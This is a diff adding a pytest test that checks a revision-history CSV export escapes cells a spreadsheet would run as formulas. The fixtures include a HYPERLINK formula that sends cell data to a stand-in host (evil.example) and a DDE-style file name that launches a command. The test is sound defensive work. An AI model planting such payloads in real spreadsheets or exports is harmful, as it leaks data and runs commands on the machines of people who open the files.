@@ -56,6 +56,24 @@ def test_csv_export_masks_sensitive_values(client_for, auditor, document):
     assert rows and all("123-45-6789" not in row["to"] for row in rows)
 
 
+def test_csv_export_neutralises_formula_cells(client_for, auditor, applicant, document, submitted):
+    """Cells an applicant controls that a spreadsheet would run as formulas come out as text."""
+    gross = document.fields.get(key="gross_pay")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    field_correct(field=gross, value="4,100.00", actor=applicant, reason=formula)
+    document.original_name = "+cmd|' /C calc'!A0.pdf"
+    document.save(update_fields=["original_name"])
+
+    rows = _csv(
+        client_for(auditor).get(reverse("revision_history_export"), {"field_key": "gross_pay"})
+    )
+
+    row = next(row for row in rows if row["role"] == "applicant")
+    assert row["reason"] == "'" + formula
+    assert row["document"] == "'+cmd|' /C calc'!A0.pdf"
+    assert row["to"] == "4,100.00"
+
+
 def test_only_admins_export_or_see_timelines_and_reports(client_for, reviewer, applicant, document):
     field = document.fields.first()
     for user in (reviewer, applicant):
